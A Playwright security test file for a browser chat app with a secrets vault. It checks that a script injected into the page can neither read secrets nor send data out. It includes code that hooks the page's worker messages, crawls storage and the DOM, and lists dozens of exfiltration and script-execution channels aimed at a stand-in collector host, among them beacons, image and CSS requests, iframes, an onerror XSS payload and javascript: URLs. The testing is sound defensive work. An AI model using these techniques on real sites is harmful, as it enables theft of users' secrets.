import { readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { canariesIn } from './canaries.ts'
import { approval, expect, lastAnswer, press, say } from './chat-fixtures.ts'
import { type Collector, startCollector } from './collector.ts'
import { connectModel, connectServers, setPassphrase, test as keyed, unlock, useKeyed } from './keyed-fixtures.ts'

// What a script can do that got into the page: it runs where the page's own scripts run, once the vault is open.

const test = keyed.extend<{ collector: Collector }>({
  // What the policy stops, the browser notes.
  expectedProblems: /./,
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads from the pattern which parts are wanted
  collector: async ({}, use) => {
    const collector = await startCollector()
    await use(collector)
    await collector.close()
  },
})
test.slow()

/** Every command there is, by its line in the list of them. */
const commands = [
  ...readFileSync(new URL('../src/wiring/commands.ts', import.meta.url), 'utf8')
    .split('export interface Commands')[1]!
    .matchAll(/^ {2}(\w+)(?:<.*>)?\(/gm),
].map(([, name]) => name!)

/** Everything that a script finds in the page without asking: what hangs on `window`, storage, the document. */
const lookAround = (page: Page): Promise<string> =>
  page.evaluate(async () => {
    const seen = new Set<unknown>()
    const found: string[] = []
    const look = (value: unknown, depth: number): void => {
      if (typeof value === 'string') found.push(value)
      if (value instanceof ArrayBuffer) return look(new Uint8Array(value), depth)
      if (value instanceof Uint8Array) found.push(new TextDecoder('latin1').decode(value))
      if ((typeof value !== 'object' && typeof value !== 'function') || value === null) return
      if (seen.has(value) || depth > 7 || seen.size > 200_000) return
      seen.add(value)
      if (value instanceof Map || value instanceof Set) for (const one of value) look(one, depth + 1)
      for (const key of Reflect.ownKeys(value)) {
        found.push(String(key))
        try {
          look(Reflect.get(value, key), depth + 1)
        } catch {
          // Some may not be asked.
        }
      }
    }
    const rowsOf = (database: IDBDatabase, table: string) =>
      new Promise<unknown[]>((resolve) => {
        const asked = database.transaction(table).objectStore(table).getAll()
        asked.onsuccess = () => resolve(asked.result)
      })
    for (const { name } of await indexedDB.databases()) {
      const database = await new Promise<IDBDatabase>((resolve) => {
        const opening = indexedDB.open(name ?? '')
        opening.onsuccess = () => resolve(opening.result)
      })
      for (const table of database.objectStoreNames)
        for (const row of await rowsOf(database, table)) {
          look(row, 0)
          found.push(JSON.stringify(row))
        }
      database.close()
    }
    // React hangs what it knows on its nodes.
    for (const element of document.querySelectorAll('*')) look(element, 4)
    look(window, 0)
    found.push(document.documentElement.outerHTML, document.cookie, location.href)
    for (const one of [localStorage, sessionStorage]) found.push(JSON.stringify(one))
    for (const name of await caches.keys()) found.push(name)
    return found.join('\n')
  })

test('a script in the page reads no secret, whatever it looks at and whatever it asks of the engine', async ({
  app,
  companion,
  secrets,
  keyedModel,
  keyedServer,
  collector,
}) => {
  await setPassphrase(app, secrets.passphrase)
  await connectModel(app, keyedModel.url, secrets.modelKey)
  await connectServers(app, keyedServer.url, secrets)
  keyedModel.follow([{ calls: [{ name: 'bearer__note', input: { text: 'a' } }] }, { text: 'It is kept.' }])
  await useKeyed(app)
  await say(app, 'Keep a')
  await expect(approval(app)).toBeVisible()
  await press(app, 'Allow once')
  await expect(lastAnswer(app)).toContainText('It is kept.')
  const hidden = { ...secrets, 'the token of the companion': companion.token }

  // It listens to what the tabs tell each other, and to what page and engine do.
  await app.evaluate(() => {
    const heard: unknown[] = []
    const { postMessage } = Worker.prototype
    Worker.prototype.postMessage = function (this: Worker, ...given: Parameters<typeof postMessage>) {
      if (!Object.hasOwn(window, 'caught')) {
        Object.assign(window, { caught: this })
        this.addEventListener('message', ({ data }) => heard.push(data))
      }
      return postMessage.apply(this, given)
    } as typeof postMessage
    new BroadcastChannel('switchboard-vault').onmessage = ({ data }) => heard.push(data)
    Object.assign(window, { heard })
  })
  const heard = () => app.evaluate(() => JSON.stringify(Reflect.get(window, 'heard')))
  await app.getByRole('button', { name: 'Lock the vault' }).click()
  await expect(app.getByRole('button', { name: 'The vault is locked' })).toBeVisible()
  expect(await heard()).toContain('lock')
  await unlock(app, secrets.passphrase)
  expect(canariesIn(await heard(), hidden), 'what is said aloud').toEqual([])
  const lying = await lookAround(app)
  expect(lying).toContain('It is kept.')
  expect(canariesIn(lying, hidden), 'what lies about').toEqual([])

  // It has the engine by the hand, and gives every command, with all that it knows and an address of its own.
  const answers = await app.evaluate(
    async ({ names, address }) => {
      const engine = Reflect.get(window, 'caught') as Worker
      const ids = await new Promise<Record<string, string[]>>((resolve) => {
        const opening = indexedDB.open('switchboard')
        opening.onsuccess = () => {
          const tables = ['conversations', 'messages', 'gpts', 'mcpServers', 'modelConnections', 'mcpToolCalls']
          const found: Record<string, string[]> = {}
          const reading = opening.result.transaction(tables)
          for (const table of tables) {
            const asked = reading.objectStore(table).getAllKeys()
            asked.onsuccess = () => (found[table] = asked.result.map(String))
          }
          reading.oncomplete = () => {
            opening.result.close()
            resolve(found)
          }
        }
      })
      let id = 1_000_000
      const ask = (name: string, input: unknown) =>
        new Promise<unknown>((resolve) => {
          const own = id++
          engine.addEventListener('message', function hear({ data }: MessageEvent<{ id?: number }>) {
            if (data.id !== own) return
            engine.removeEventListener('message', hear)
            resolve(data)
          })
          engine.postMessage({ type: 'command', id: own, name, input })
        })
      const model = { kind: 'compatible', name: 'Mine', baseUrl: `${address}/v1`, api: 'chat' }
      const server = (type: string) => ({
        name: 'Mine',
        description: '',
        transport: 'streamable-http',
        url: `${address}/mcp`,
        authentication: { type, header: 'x-api-key', user: 'ann' },
        timeoutSeconds: 5,
        retries: 0,
        relay: false,
        trusted: true,
        enabled: true,
      })
      const ways = ['none', 'bearer', 'api-key', 'basic']
      const inputs = Object.values(ids['mcpServers'] ?? []).flatMap((serverId) =>
        ways.map((way) => ({ serverId, server: server(way), secrets: {} })),
      )
      const common = {
        text: 'x',
        id: 'x',
        title: 'x',
        format: 'json',
        model,
        answers: [],
        key: 'theme',
        value: 'dark',
        name: 'x',
        toolName: 'note',
        trusted: true,
        enabled: true,
        gptId: ids['gpts']?.[0],
        conversationId: ids['conversations']?.[0],
        messageId: ids['messages']?.[0],
        toolCallId: ids['mcpToolCalls']?.[0],
        passphrase: 'x',
      }
      const heard: unknown[] = []
      for (const name of names) {
        for (const connectionId of ids['modelConnections'] ?? [])
          for (const input of inputs.length > 0 && /Server/.test(name) ? inputs : [{}])
            heard.push([
              name,
              await ask(name, { ...common, connectionId, ...input, ...(/Model/.test(name) ? { key: '' } : {}) }),
            ])
      }
      for (const name of ['constructor', '__proto__', 'toString', 'vault', 'open', 'secret'])
        heard.push([name, await ask(name, common)])
      return JSON.stringify(heard)
    },
    { names: commands.filter((name) => !['lock', 'wipe'].includes(name)), address: collector.url },
  )
  expect(commands.length).toBeGreaterThan(40)
  expect(answers).toContain('There is no command vault')
  expect(answers).toContain('belongs to')
  expect(canariesIn(answers, hidden), 'what the engine answers').toEqual([])
  // The engine goes where its user sends it, so also where a script does: with empty hands.
  await expect.poll(() => collector.requests.length).toBeGreaterThan(3)
  expect(canariesIn(collector.requests.join('\n\n'), hidden), 'what a stranger is sent').toEqual([])
  expect(canariesIn(await lookAround(app), hidden), 'what lies about afterwards').toEqual([])
})

/**
 * Ways out of a page. Not here, because no policy stops them: a script may send the whole window or a new one to another
 * address, a preconnect tells a host that somebody is there, and WebRTC asks whom it likes for its own address.
 */
const waysOut: Record<string, (address: string) => unknown> = {
  fetch: (address) => fetch(`${address}/fetch`, { mode: 'no-cors' }),
  'fetch, kept alive': (address) => fetch(`${address}/keepalive`, { method: 'POST', body: 'x', keepalive: true }),
  XMLHttpRequest: (address) => {
    const request = new XMLHttpRequest()
    request.open('GET', `${address}/xhr`)
    request.send()
  },
  WebSocket: (address) => new WebSocket(`${address.replace('http', 'ws')}/socket`),
  EventSource: (address) => new EventSource(`${address}/events`),
  beacon: (address) => navigator.sendBeacon(`${address}/beacon`, 'x'),
  'a picture': (address) => (new Image().src = `${address}/picture.png`),
  'a picture of a set': (address) => (new Image().srcset = `${address}/set.png 2x`),
  'a sound': (address) => new Audio(`${address}/sound.mp3`).load(),
  'a video and its poster': (address) => {
    const video = document.createElement('video')
    video.poster = `${address}/poster.png`
    video.src = `${address}/film.mp4`
    document.body.append(video)
  },
  'a script': (address) => {
    const script = document.createElement('script')
    Object.assign(script, { src: `${address}/script.js` })
    document.body.append(script)
  },
  'a script in words': () => {
    const script = document.createElement('script')
    Object.assign(script, { text: 'window.ran = true' })
    document.body.append(script)
  },
  eval: () => (Reflect.get(window, 'eval') as (code: string) => void)('window.ran = true'),
  Function: () => (Reflect.construct(Function, ['window.ran = true']) as () => void)(),
  'a timer of words': () => Reflect.apply(setTimeout, window, ['window.ran = true', 0]) as unknown,
  innerHTML: () => (document.createElement('div').innerHTML = '<img src=x onerror="window.ran = true">'),
  'a handler in an attribute': () => {
    const button = document.createElement('button')
    button.setAttribute('onclick', 'window.ran = true')
    document.body.append(button)
    button.click()
  },
  'a script for an address': () => {
    const link = document.createElement('a')
    link.href = 'javascript:window.ran=true'
    document.body.append(link)
    link.click()
  },
  Worker: (address) => new Worker(`${address}/worker.js`),
  'the engine once more': () => new Worker('/assets/engine.js', { type: 'module' }),
  'a worker of its own': (address) =>
    new Worker(URL.createObjectURL(new Blob([`fetch('${address}/blob')`], { type: 'text/javascript' }))),
  SharedWorker: (address) => new SharedWorker(`${address}/shared.js`),
  'a service worker': () => navigator.serviceWorker.register('/assets/engine.js'),
  'a policy of its own': () => {
    const types = Reflect.get(window, 'trustedTypes') as { createPolicy: (name: string, rules: object) => unknown }
    types.createPolicy('switchboard', { createScriptURL: (url: string) => url })
    Object.assign(window, { ran: true })
  },
  'a form': (address) => {
    const form = document.createElement('form')
    Object.assign(form, { action: `${address}/form`, method: 'post', target: '_blank' })
    document.body.append(form)
    form.submit()
  },
  'a frame': (address) => {
    const frame = document.createElement('iframe')
    frame.src = `${address}/frame`
    document.body.append(frame)
  },
  'a frame of words': (address) => {
    const frame = document.createElement('iframe')
    Object.assign(frame, { srcdoc: `<img src="${address}/srcdoc.png">` })
    document.body.append(frame)
  },
  'an object': (address) => {
    const object = document.createElement('object')
    object.data = `${address}/object`
    document.body.append(object)
  },
  'an embedded file': (address) => {
    const embedded = document.createElement('embed')
    Object.assign(embedded, { src: `${address}/embedded` })
    document.body.append(embedded)
  },
  'a sheet': (address) => {
    const link = document.createElement('link')
    Object.assign(link, { rel: 'stylesheet', href: `${address}/sheet.css` })
    document.head.append(link)
  },
  'a picture in a sheet': (address) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(
      `body { background: url(${address}/background.png) } @font-face { font-family: far; src: url(${address}/font.woff2) }`,
    )
    document.adoptedStyleSheets.push(sheet)
    document.body.style.fontFamily = 'far'
  },
  'hints of what may be wanted': (address) => {
    for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest', 'dns-prefetch']) {
      const link = document.createElement('link')
      Object.assign(link, { rel, as: 'image', href: `${address}/${rel}` })
      document.head.append(link)
    }
  },
  'a link that tells': (address) => {
    const link = document.createElement('a')
    Object.assign(link, { href: '#/', ping: `${address}/ping` })
    document.body.append(link)
    link.click()
  },
  'a drawing': (address) => {
    const drawing = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    for (const name of ['image', 'use', 'feImage']) {
      const part = document.createElementNS('http://www.w3.org/2000/svg', name)
      part.setAttribute('href', `${address}/${name}.svg#x`)
      drawing.append(part)
    }
    document.body.append(drawing)
  },
  'another base': (address) => {
    const base = document.createElement('base')
    base.href = address
    document.head.append(base)
    new Image().src = 'from-base.png'
  },
}

/** Tries every way from a timer, as a script of the page would: a call of the tool itself is not under the policy. */
async function tryAll(page: Page, address: string): Promise<void> {
  for (const [name, way] of Object.entries({ ...waysOut, import: IMPORT })) {
    const go = await page.evaluateHandle<(address: string) => unknown>(`(${String(way)})`)
    await test.step(name, () =>
      page.evaluate(
        ([run, to]) =>
          new Promise<void>((resolve) =>
            setTimeout(() => {
              void (async () => run(to))().catch(() => {})
              resolve()
            }),
          ),
        [go, address] as const,
      ),
    )
  }
}
const IMPORT = 'address => import(`${address}/module.js`)'
const pathsAt = ({ requests }: Collector) => requests.map((request) => request.split(/[ \n]/)[1])

test('a script in the page runs no words as code, and sends nothing to a stranger', async ({
  app,
  context,
  collector,
}) => {
  // On a page without a policy the same ways are open.
  const elsewhere = await startCollector()
  const control = await startCollector()
  const open = await context.newPage()
  await open.goto(elsewhere.url)
  await tryAll(open, control.url)
  await expect.poll(() => new Set(pathsAt(control)).size).toBeGreaterThan(25)
  expect(await open.evaluate(() => 'ran' in window)).toBe(true)
  await open.close()
  await elsewhere.close()
  await control.close()

  await tryAll(app, collector.url)
  expect(await app.evaluate(() => 'ran' in window)).toBe(false)
  // What the browser was asked for earlier would be there by the time it has fetched this.
  const last = await context.newPage()
  await last.goto(`${collector.url}/last`)
  expect(pathsAt(collector).filter((path) => !/^\/(last|favicon.ico)$/.test(path ?? ''))).toEqual([])
})
